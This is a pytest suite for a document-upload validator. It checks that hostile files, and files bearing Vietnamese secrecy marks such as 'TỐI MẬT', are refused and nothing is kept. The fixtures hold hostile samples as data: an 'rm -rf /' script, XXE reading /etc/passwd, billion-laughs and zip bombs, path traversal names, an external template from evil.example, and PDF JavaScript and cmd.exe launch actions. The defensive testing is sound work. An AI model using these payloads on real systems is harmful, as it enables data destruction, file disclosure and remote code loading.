"""Hostile and unwanted uploads: each refused with its sentence, and nothing of it kept anywhere."""

import datetime
import io
import tempfile
import uuid
import zipfile
from pathlib import Path
from typing import Any

import pikepdf
import pytest
import typst

from ttdn.files import packages, pdfs
from ttdn.files.actions import store_upload
from ttdn.files.errors import RefusedFile, SecretMark
from ttdn.files.kinds import ANY, DOCUMENTS, IMAGES
from ttdn.files.models import StoredFile
from ttdn.files.storage import kept
from ttdn.files.tests import makers

pytestmark = pytest.mark.django_db
AT = datetime.datetime(2026, 11, 21, 9, 30, tzinfo=datetime.UTC)
RELS = "word/_rels/document.xml.rels"
TYPES = "[Content_Types].xml"


@pytest.fixture(autouse=True)
def _folders(settings: Any, tmp_path: Any, monkeypatch: Any) -> None:
    settings.FILES_ROOT = tmp_path / "files"
    (tmp_path / "tmp").mkdir()
    monkeypatch.setenv("TMPDIR", str(tmp_path / "tmp"))
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "tmp"))


def store(data: Any, name: Any = "tep.docx", allowed: Any = DOCUMENTS) -> Any:
    return store_upload(
        makers.upload(data, name),
        owner_kind="test.thing",
        owner_id=uuid.uuid4(),
        body_public_id=None,
        acting_user=None,
        at=AT,
        allowed=allowed,
    )


def refused(data: Any, name: Any = "tep.docx", allowed: Any = DOCUMENTS, kind: Any = RefusedFile) -> Any:
    with pytest.raises(kind) as error:
        store(data, name, allowed)
    assert list(kept()) == []
    assert list(Path(tempfile.gettempdir()).iterdir()) == []
    assert StoredFile.objects.count() == 0
    return error.value.sentence


def test_over_the_limit(settings: Any) -> None:
    settings.UPLOAD_MAX_BYTES = 1024 * 1024
    sentence = refused(b"a" * (1024 * 1024 + 1), "a.txt")
    assert "Tệp nặng 1,1 MB, lớn hơn mức 1 MB" in sentence


def test_empty() -> None:
    assert "Tệp rỗng" in refused(b"", "a.txt")


@pytest.mark.parametrize("data", [b"MZ\x90\x00" + b"\0" * 60, b"\x7fELF" + b"\0" * 60, b"#!/bin/sh\nrm -rf /\n"])
def test_programs_under_any_name(data: Any) -> None:
    assert "chương trình hoặc mã lệnh" in refused(data, "bao-cao.pdf")


@pytest.mark.parametrize("name", ["a.bat", "a.js", "a.txt.exe", "a.html", "a.exe. "])
def test_program_names(name: Any) -> None:
    assert "chương trình hoặc mã lệnh" in refused(b"echo xin chao", name)


@pytest.mark.parametrize(
    "data",
    [
        b"<html><script>alert(1)</script></html>",
        b'<?xml version="1.0"?><svg onload="alert(1)"/>',
        b"Rar!\x1a\x07\x00" + b"\0" * 40,
        b"\x1f\x8b\x08" + b"\0" * 40,
        b"GIF89a" + b"\x00\xff" * 20,
        b"{\\rtf1 hello}",
        b"%!PS-Adobe-3.0\n",
    ],
)
def test_kinds_that_are_not_taken_whatever_their_name(data: Any) -> None:
    assert "Không nhận loại tệp này (xét theo nội dung, không theo tên)" in refused(data, "bao-cao.docx")


def test_any_other_zip() -> None:
    assert "Không nhận loại tệp này" in refused(makers.zip_bytes({"a.txt": "xin chào"}), "a.docx")


def test_old_word_files() -> None:
    assert "kiểu cũ (.doc, .xls) hay có mật khẩu" in refused(
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500, "a.docx"
    )


def test_a_kind_that_this_form_does_not_take() -> None:
    assert "Ở đây không nhận tệp PNG" in refused(makers.png_bytes(), "a.png")
    assert "Ở đây không nhận tệp DOCX. Các loại được nhận: PNG, JPG, WEBP." in refused(
        makers.docx_bytes(), "a.png", IMAGES
    )


@pytest.mark.parametrize(
    "data", [b"PK\x03\x04 rac", makers.docx_bytes()[:2000], b"%PDF-1.7 rac", b"\x89PNG\r\n\x1a\n" + b"\0" * 30]
)
def test_damaged(data: Any) -> None:
    assert any(words in refused(data, allowed=ANY) for words in ("Không đọc được tệp", "Không nhận loại tệp này"))


def test_zip_bomb_by_ratio() -> None:
    bomb = makers.with_parts(makers.docx_bytes(), {"word/media/a.bin": b"\0" * 20_000_000})
    assert "phình quá lớn" in refused(bomb)


def test_zip_bomb_by_total(monkeypatch: Any) -> None:
    monkeypatch.setattr(packages, "MAX_TOTAL_BYTES", 100_000)
    big = makers.with_parts(
        makers.docx_bytes(), {f"word/media/{number}.bin": bytes(range(256)) * 200 for number in range(4)}
    )
    assert "phình quá lớn" in refused(big)


def test_zip_bomb_by_entries(monkeypatch: Any) -> None:
    monkeypatch.setattr(packages, "MAX_PARTS", 50)
    many = makers.with_parts(makers.docx_bytes(), {f"word/media/{number}.bin": b"x" for number in range(60)})
    assert "phình quá lớn" in refused(many)


def test_zip_that_lies_about_its_sizes() -> None:
    data = bytearray(makers.with_parts(makers.docx_bytes(), {"word/media/a.bin": b"\0" * 20_000_000}))
    place = data.rfind(b"word/media/a.bin") - 46
    data[place + 24 : place + 28] = (10).to_bytes(4, "little")
    sentence = refused(bytes(data))
    assert "phình quá lớn" in sentence or "Không đọc được tệp" in sentence


def test_nested_archive() -> None:
    inner = makers.zip_bytes({"a": b"\0" * 1000})
    assert "nhúng bên trong (trong.zip)" in refused(
        makers.with_parts(makers.docx_bytes(), {"word/media/trong.zip": inner})
    )


def test_archive_two_levels_down() -> None:
    inner = makers.with_parts(makers.xlsx_bytes(), {"xl/embeddings/sau.xlsx": makers.xlsx_bytes()})
    assert "nhúng bên trong (sau.xlsx)" in refused(
        makers.with_parts(makers.docx_bytes(), {"word/embeddings/a.xlsx": inner})
    )


def test_secret_inside_an_embedded_workbook() -> None:
    data = makers.with_parts(makers.docx_bytes(), {"word/embeddings/a.xlsx": makers.xlsx_bytes("TỐI MẬT")})
    assert "“TỐI MẬT”" in refused(data, kind=SecretMark)


@pytest.mark.parametrize("payload", [b"MZ\x90\x00", b"\xd0\xcf\x11\xe0\xa1\xb1", b"%PDF-1.7"])
def test_embedded_objects(payload: Any) -> None:
    data = makers.with_parts(makers.docx_bytes(), {"word/embeddings/oleObject1.bin": payload + b"\0" * 99})
    assert "nhúng bên trong (oleObject1.bin)" in refused(data)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_external_entities(encoding: Any) -> None:
    text = (
        f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    )
    assert "khai báo thực thể (DOCTYPE)" in refused(
        makers.with_parts(makers.docx_bytes(), {"word/document.xml": text.encode(encoding)})
    )


def test_billion_laughs() -> None:
    entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    text = f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a0 "ha">{entities}]><a>&a11;</a>'
    assert "DOCTYPE" in refused(makers.with_parts(makers.xlsx_bytes(), {"xl/workbook.xml": text}), "a.xlsx")


@pytest.mark.parametrize(
    "name", ["word/vbaProject.bin", "word/vbaData.xml", "xl/macrosheets/sheet1.xml", "word/activeX/activeX1.bin"]
)
def test_macros(name: Any) -> None:
    assert "chứa macro" in refused(makers.with_parts(makers.docx_bytes(), {name: b"x"}))


def test_a_docm_named_docx() -> None:
    types = makers.part(makers.docx_bytes(), TYPES).replace(
        b"wordprocessingml.document.main", b"ms-word.document.macroEnabled.main"
    )
    assert "chứa macro" in refused(makers.with_parts(makers.docx_bytes(), {TYPES: types}))


def test_macros_of_open_documents() -> None:
    assert "chứa macro" in refused(makers.odt_bytes(extra={"Basic/Standard/Module1.xml": "<x/>"}), "a.odt")


def test_a_template_loaded_from_outside() -> None:
    link = b'<Relationship Id="r9" Type="http://x/relationships/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
    rels = makers.part(makers.docx_bytes(), RELS).replace(b"</Relationships>", link)
    assert "tự tải nội dung từ bên ngoài" in refused(makers.with_parts(makers.docx_bytes(), {RELS: rels}))


def test_hyperlinks_are_fine() -> None:
    link = b'<Relationship Id="r9" Type="http://x/relationships/hyperlink" Target="https://chinhphu.vn" TargetMode="External"/></Relationships>'
    rels = makers.part(makers.docx_bytes(), RELS).replace(b"</Relationships>", link)
    assert store(makers.with_parts(makers.docx_bytes(), {RELS: rels})).mime.endswith("wordprocessingml.document")


def test_encrypted_zip() -> None:
    data = bytearray(makers.docx_bytes())
    place = data.rfind(b"PK\x01\x02")
    data[place + 8] |= 1
    assert "có mật khẩu" in refused(bytes(data))


def test_encrypted_open_document() -> None:
    manifest = "<manifest><encryption-data/></manifest>"
    assert "có mật khẩu" in refused(makers.odt_bytes(manifest=manifest), "a.odt")


@pytest.mark.parametrize("name", ["../../etc/cron.d/x", "/etc/passwd", "C:\\x", "word\\..\\..\\x"])
def test_path_tricks_inside_packages(name: Any) -> None:
    assert "Không đọc được tệp" in refused(makers.with_parts(makers.docx_bytes(), {name: b"x"}))


def test_parts_of_the_same_name() -> None:
    out = io.BytesIO(makers.docx_bytes())
    with pytest.warns(UserWarning, match="Duplicate name"), zipfile.ZipFile(out, "a") as archive:
        archive.writestr("word/document.xml", "<x/>")
    assert "Không đọc được tệp" in refused(out.getvalue())


def test_pdf_with_password() -> None:
    assert "Tệp PDF có mật khẩu" in refused(makers.pdf_bytes(password="x"), "a.pdf")


def javascript(pdf: Any) -> None:
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def launch(pdf: Any) -> None:
    pdf.pages[0].Annots = pikepdf.Array(
        [
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot,
                Subtype=pikepdf.Name.Link,
                A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe"),
            )
        ]
    )


def names_javascript(pdf: Any) -> None:
    action = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pdf.make_stream(b"app.alert(1)")))
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["a", action])))


def form(pdf: Any) -> None:
    pdf.Root.AcroForm = pikepdf.Dictionary(XFA=pdf.make_stream(b"<xdp/>"))


@pytest.mark.parametrize("change", [javascript, launch, names_javascript, form])
def test_pdf_that_runs_something(change: Any) -> None:
    assert "mã lệnh hoặc biểu mẫu chạy chương trình" in refused(makers.pdf_bytes(change=change), "a.pdf")


def test_pdf_with_attachment() -> None:
    def attach(pdf: Any) -> None:
        pdf.attachments["a.exe"] = b"MZ"

    assert "tệp khác đính kèm bên trong" in refused(makers.pdf_bytes(change=attach), "a.pdf")


def test_pdf_with_too_many_pages(monkeypatch: Any) -> None:
    monkeypatch.setattr(pdfs, "MAX_PAGES", 2)

    def more(pdf: Any) -> None:
        for _ in range(2):
            pdf.add_blank_page()

    assert "có 3 trang, nhiều hơn mức 2 trang" in refused(makers.pdf_bytes(change=more), "a.pdf")


def test_pdf_that_takes_too_long_to_read(monkeypatch: Any) -> None:
    monkeypatch.setattr(pdfs, "MAX_SECONDS", -1.0)
    assert "quá phức tạp nên không kiểm tra hết được" in refused(makers.pdf_bytes(), "a.pdf")


def test_pdf_bomb() -> None:
    def bomb(pdf: Any) -> None:
        pdf.pages[0].Contents = pdf.make_stream(b" " * 25_000_000)

    sentence = refused(makers.pdf_bytes(change=bomb), "a.pdf")
    assert "phình quá lớn" in sentence or "Không đọc được tệp" in sentence


def test_picture_of_absurd_size() -> None:
    assert "Ảnh quá lớn (60000 × 60000 điểm)" in refused(makers.png_bytes(60000, 60000), "a.png", IMAGES)


def test_letter_with_a_hostile_attachment() -> None:
    assert "chương trình hoặc mã lệnh" in refused(
        makers.eml_bytes("Kính gửi", attachment=b"MZ\x90" + b"\0" * 50), "a.eml"
    )


@pytest.mark.parametrize(
    ("data", "name", "mark"),
    [
        (makers.docx_bytes("BỘ NGOẠI GIAO", "MẬT", "BÁO CÁO"), "a.docx", "MẬT"),
        (makers.docx_bytes("Nội dung", header="TUYỆT MẬT"), "a.docx", "TUYỆT MẬT"),
        (makers.docx_bytes("Nội dung", title="Tối mật"), "a.docx", "TỐI MẬT"),
        (makers.docx_bytes(*["Đoạn thường."] * 200, "TỐI MẬT"), "a.docx", "TỐI MẬT"),
        (makers.docx_bytes("Nội dung"), "Tối mật - báo cáo.docx", "TỐI MẬT"),
        (makers.docx_bytes(change=lambda d: setattr(d.add_table(1, 1).cell(0, 0), "text", "MẬT")), "a.docx", "MẬT"),
        (makers.xlsx_bytes("STT", "Độ mật: Mật"), "a.xlsx", "MẬT"),
        (makers.xlsx_bytes("STT", header="TUYỆT MẬT"), "a.xlsx", "TUYỆT MẬT"),
        (makers.odt_bytes("Tuyệt mật", "Nội dung"), "a.odt", "TUYỆT MẬT"),
        (makers.pdf_bytes("TUYET MAT", "BAO CAO"), "a.pdf", "TUYET MAT"),
        (makers.pdf_bytes("BAO CAO", title="TỐI MẬT"), "a.pdf", "TỐI MẬT"),
        ("MẬT\n\nNội dung".encode(), "a.txt", "MẬT"),
        ("MẬT\n\nNội dung".encode("utf-16"), "a.txt", "MẬT"),
        ("STT,Độ mật: Tối mật\n".encode(), "a.csv", "TỐI MẬT"),
        (makers.eml_bytes("Kính gửi", subject="TUYỆT MẬT"), "a.eml", "TUYỆT MẬT"),
        (makers.eml_bytes("Kính gửi", attachment=makers.docx_bytes("MẬT")), "a.eml", "MẬT"),
        (makers.png_bytes(text="Độ mật: Tuyệt mật"), "a.png", "TUYỆT MẬT"),
    ],
)
def test_marks_of_state_secrets(data: Any, name: Any, mark: Any, caplog: Any) -> None:
    sentence = refused(data, name, ANY, SecretMark)
    assert f"Tệp mang dấu chỉ độ mật “{mark}”" in sentence
    assert "Không phần nào của tệp được giữ lại" in sentence
    assert caplog.text == ""


def test_a_stamp_on_a_pdf_page() -> None:
    def stamp(pdf: Any) -> None:
        pdf.pages[0].Annots = pikepdf.Array(
            [pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Stamp, Contents="MẬT")]
        )

    assert "“MẬT”" in refused(makers.pdf_bytes(change=stamp), "a.pdf", kind=SecretMark)


def test_a_stamp_in_vietnamese_on_a_typeset_page() -> None:
    source = b'#set text(font: "Tinos")\nB\xe1\xbb\x98 NGO\xe1\xba\xa0I GIAO\n\n#rect[T\xe1\xbb\x90I M\xe1\xba\xacT]\n\nN\xe1\xbb\x99i dung'
    assert "“TỐI MẬT”" in refused(typst.compile(source), "a.pdf", kind=SecretMark)


def test_custom_property_of_classification() -> None:
    custom = '<Properties><property name="Độ mật"><vt:lpwstr xmlns:vt="v">Tối mật</vt:lpwstr></property></Properties>'
    assert "“TỐI MẬT”" in refused(
        makers.with_parts(makers.docx_bytes(), {"docProps/custom.xml": custom}), kind=SecretMark
    )
